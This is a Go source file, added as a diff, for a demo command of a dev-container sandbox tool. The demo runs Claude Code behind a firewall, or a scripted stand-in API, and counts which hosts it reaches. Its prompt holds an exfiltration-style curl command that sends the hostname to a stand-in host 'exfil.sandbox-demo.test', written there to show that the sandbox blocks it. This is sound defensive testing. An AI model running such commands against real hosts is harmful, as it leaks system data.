@@ -1,0 +1,281 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"io/fs"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"time"
+
+	"github.com/spf13/cobra"
+
+	"github.com/org/claude-sandbox/agent"
+	"github.com/org/claude-sandbox/internal/diag"
+	"github.com/org/claude-sandbox/internal/engine"
+	"github.com/org/claude-sandbox/internal/fakeapi"
+)
+
+// The demo's two hosts. They live on a network that the demo makes, so it runs
+// without the internet and can count what really arrived.
+const (
+	demoAllowedHost = "docs.sandbox-demo.test"
+	demoDeniedHost  = "exfil.sandbox-demo.test"
+	demoImage       = "claude-sandbox-demo:latest"
+)
+
+const demoPrompt = `Run these two commands, one after the other, and report in one sentence what each of them did:
+1. curl -sS -m 20 http://` + demoAllowedHost + `/ | tee NOTES.md
+2. curl -sS -m 20 http://` + demoDeniedHost + `/?secret=$(hostname)`
+
+func (a *app) demoCommand() *cobra.Command {
+	return &cobra.Command{
+		Use:   "demo",
+		Short: "Show the main job: a repository, its dev container, and Claude Code behind the firewall",
+		Long: `Make a small git repository in a temporary folder, write and validate its dev
+container, build the image, and run the real Claude Code in the sandbox: it
+reaches one host that is allowed and tries one that is not.
+
+With ANTHROPIC_API_KEY set the model is real. Without it a scripted stand-in for
+the Messages API drives the same Claude Code through the same two commands.`,
+		Args: cobra.NoArgs,
+		RunE: func(cmd *cobra.Command, _ []string) error {
+			d := &demo{app: a, begin: time.Now()}
+			return d.run(cmd.Context())
+		},
+	}
+}
+
+// demo is one showing. It drives the commands that a user would type.
+type demo struct {
+	app    *app
+	begin  time.Time
+	dir    string // the repository
+	engine *engine.Engine
+}
+
+func (d *demo) run(ctx context.Context) (err error) {
+	if d.engine, err = engine.Connect(ctx); err != nil {
+		return runError(err)
+	}
+	defer d.engine.Close()
+	work, err := os.MkdirTemp("", "sandbox-demo-")
+	if err != nil {
+		return exitWith(exitInternal, err)
+	}
+	defer func() { _ = os.RemoveAll(work) }()
+	d.dir = filepath.Join(work, "hello")
+	if err := d.makeRepository(ctx); err != nil {
+		return exitWith(exitInternal, err)
+	}
+
+	d.title("A dev container for it, written and checked")
+	if err := d.typed(ctx, d.app, "init", d.dir); err != nil {
+		return err
+	}
+	if err := d.typed(ctx, d.app, "validate", d.dir); err != nil {
+		return err
+	}
+	d.title("Its image, built by the engine")
+	if err := d.typed(ctx, d.app, "image", "build", d.dir, "--tag", demoImage); err != nil {
+		return err
+	}
+	return d.runAgent(ctx, work)
+}
+
+// makeRepository makes a project such as a user might have.
+func (d *demo) makeRepository(ctx context.Context) error {
+	d.title("A repository")
+	if err := os.MkdirAll(d.dir, 0o755); err != nil {
+		return err
+	}
+	if err := os.WriteFile(filepath.Join(d.dir, "README.md"), []byte("# hello\n"), 0o644); err != nil {
+		return err
+	}
+	identity := []string{"-c", "user.name=demo", "-c", "user.email=demo@sandbox-demo.test"}
+	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"add", "."}, {"commit", "-q", "-m", "Say hello"}} {
+		fmt.Fprintf(d.app.stdout, "$ git %s\n", strings.Join(args, " "))
+		cmd := exec.CommandContext(ctx, "git", append(slices.Clone(identity), args...)...)
+		cmd.Dir = d.dir
+		if out, err := cmd.CombinedOutput(); err != nil {
+			return diag.WithHint(fmt.Errorf("git %s: %w: %s", args[0], err, bytes.TrimSpace(out)), "install git")
+		}
+	}
+	return nil
+}
+
+// runAgent is the main job.
+func (d *demo) runAgent(ctx context.Context, work string) error {
+	internet, err := startDemoInternet(ctx, d.engine)
+	if err != nil {
+		return exitWith(exitNoStart, err)
+	}
+	defer internet.close(ctx)
+	if os.Geteuid() == 0 { // the agent never is root
+		if err := chownAll(d.dir, 1000); err != nil {
+			return exitWith(exitInternal, err)
+		}
+	}
+	getenv, closeAPI, err := d.modelAPI()
+	if err != nil {
+		return exitWith(exitInternal, err)
+	}
+	defer closeAPI()
+
+	var claude bytes.Buffer
+	child := *d.app
+	child.stdin, child.stdout, child.getenv = strings.NewReader(demoPrompt), &claude, getenv
+	summaryFile := filepath.Join(work, "summary.json")
+	runErr := d.typed(ctx, &child, "run", d.dir, "--print", "--image", demoImage, "--engine-network", internet.network,
+		"--allow", demoAllowedHost, "--private", demoAllowedHost, "--timeout", "5m", "--summary-file", summaryFile)
+
+	d.title("What Claude Code did")
+	d.showTranscript(claude.Bytes())
+	if runErr != nil {
+		return runErr
+	}
+	d.title("What arrived on the other side")
+	arrived, err := internet.arrivals(ctx)
+	if err != nil {
+		return exitWith(exitInternal, err)
+	}
+	for _, host := range []string{demoAllowedHost, demoDeniedHost} {
+		fmt.Fprintf(d.app.stdout, "%-24s %d request(s)\n", host, arrived[host])
+	}
+	if err := d.figures(ctx, summaryFile); err != nil {
+		return exitWith(exitInternal, err)
+	}
+	if arrived[demoAllowedHost] == 0 || arrived[demoDeniedHost] != 0 {
+		return exitWith(exitInternal, fmt.Errorf("the demo failed: %s must be reached and %s must not", demoAllowedHost, demoDeniedHost))
+	}
+	return nil
+}
+
+// modelAPI returns the environment that run sees: the user's own when there is
+// a key, otherwise one that leads to a scripted API on loopback.
+func (d *demo) modelAPI() (getenv func(string) string, closeAPI func(), err error) {
+	if d.app.getenv("ANTHROPIC_API_KEY") != "" || d.app.getenv("CLAUDE_CODE_OAUTH_TOKEN") != "" {
+		d.title("Claude Code in the sandbox, with the real model")
+		return d.app.getenv, func() {}, nil
+	}
+	d.title("Claude Code in the sandbox, with a SCRIPTED model (set ANTHROPIC_API_KEY for the real one)")
+	const key = "sk-ant-scripted-demo-key"
+	commands := strings.Split(demoPrompt, "\n")[1:]
+	api := &fakeapi.Server{APIKey: key, Script: fakeapi.Script{
+		Turns: []fakeapi.Turn{
+			{Text: "I fetch the documentation.", Bash: []string{strings.TrimPrefix(commands[0], "1. ")}},
+			{Text: "Now the other host.", Bash: []string{strings.TrimPrefix(commands[1], "2. ")}},
+		},
+		Final: "The documentation was fetched into NOTES.md; the second host was refused by the sandbox.",
+	}}
+	listener, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		return nil, nil, fmt.Errorf("starting the scripted API: %w", err)
+	}
+	server := &http.Server{Handler: api}
+	go func() { _ = server.Serve(listener) }()
+	env := map[string]string{"ANTHROPIC_API_KEY": key, "SBX_DEVC_UPSTREAM": "http://" + listener.Addr().String()}
+	return func(name string) string {
+		if v, ok := env[name]; ok {
+			return v
+		}
+		return d.app.getenv(name)
+	}, func() { _ = server.Close() }, nil
+}
+
+// typed runs one of our own commands as if a user had typed it.
+func (d *demo) typed(ctx context.Context, a *app, args ...string) error {
+	fmt.Fprintf(d.app.stdout, "$ sbx-devc %s\n", strings.Join(args, " "))
+	if code := a.main(ctx, args); code != exitOK {
+		return exitWith(code, nil) // the command has said why
+	}
+	return nil
+}
+
+func (d *demo) title(text string) { fmt.Fprintf(d.app.stdout, "\n── %s\n", text) }
+
+// showTranscript prints the agent's side in a form for people.
+func (d *demo) showTranscript(transcript []byte) {
+	s := agent.NewScanner(io.Discard, func(ev agent.Event) {
+		switch e := ev.(type) {
+		case agent.Init:
+			fmt.Fprintf(d.app.stdout, "  Claude Code %s, model %s\n", e.Version, e.Model)
+		case agent.ToolUse:
+			fmt.Fprintf(d.app.stdout, "  ● %s: %s\n", e.Name, e.Argument)
+		case agent.ToolResult:
+			for line := range strings.Lines(strings.TrimSpace(e.Text)) {
+				fmt.Fprintf(d.app.stdout, "    %s\n", strings.TrimRight(line, "\n"))
+			}
+		case agent.Result:
+			fmt.Fprintf(d.app.stdout, "  %s\n", e.Text)
+		}
+	})
+	_, _ = s.Write(transcript)
+	_ = s.Close()
+}
+
+// figures prints what the README promises about speed, measured just now.
+func (d *demo) figures(ctx context.Context, summaryFile string) error {
+	data, err := os.ReadFile(summaryFile)
+	if err != nil {
+		return err
+	}
+	var summary struct{ Milliseconds map[string]int64 }
+	if err := json.Unmarshal(data, &summary); err != nil {
+		return fmt.Errorf("reading %s: %w", summaryFile, err)
+	}
+	version, err := timeVersion(ctx)
+	if err != nil {
+		return err
+	}
+	d.title("Figures")
+	ms := summary.Milliseconds
+	for _, f := range []struct {
+		what  string
+		value time.Duration
+		goal  string
+	}{
+		{"sbx-devc version", version, "20ms"},
+		{"containers' start to the agent's start", time.Duration(ms["startup"]) * time.Millisecond, "2s"},
+		{"of it the firewall", time.Duration(ms["firewall"]) * time.Millisecond, "150ms"},
+		{"the whole demo", time.Since(d.begin), "90s once the image is built"},
+	} {
+		fmt.Fprintf(d.app.stdout, "%-40s %8s   (goal: under %s)\n", f.what, f.value.Round(time.Millisecond), f.goal)
+	}
+	return nil
+}
+
+// timeVersion returns the median time of this program's version command.
+func timeVersion(ctx context.Context) (time.Duration, error) {
+	self, err := os.Executable()
+	if err != nil {
+		return 0, err
+	}
+	var times []time.Duration
+	for range 5 {
+		begin := time.Now()
+		if err := exec.CommandContext(ctx, self, "version").Run(); err != nil {
+			return 0, fmt.Errorf("timing the version command: %w", err)
+		}
+		times = append(times, time.Since(begin))
+	}
+	slices.Sort(times)
+	return times[len(times)/2], nil
+}
+
+// chownAll gives dir and everything below it to uid, links themselves and not
+// what they lead to.
+func chownAll(dir string, uid int) error {
+	return filepath.WalkDir(dir, func(path string, _ fs.DirEntry, err error) error {
+		return errors.Join(err, os.Lchown(path, uid, uid))
+	})
+}
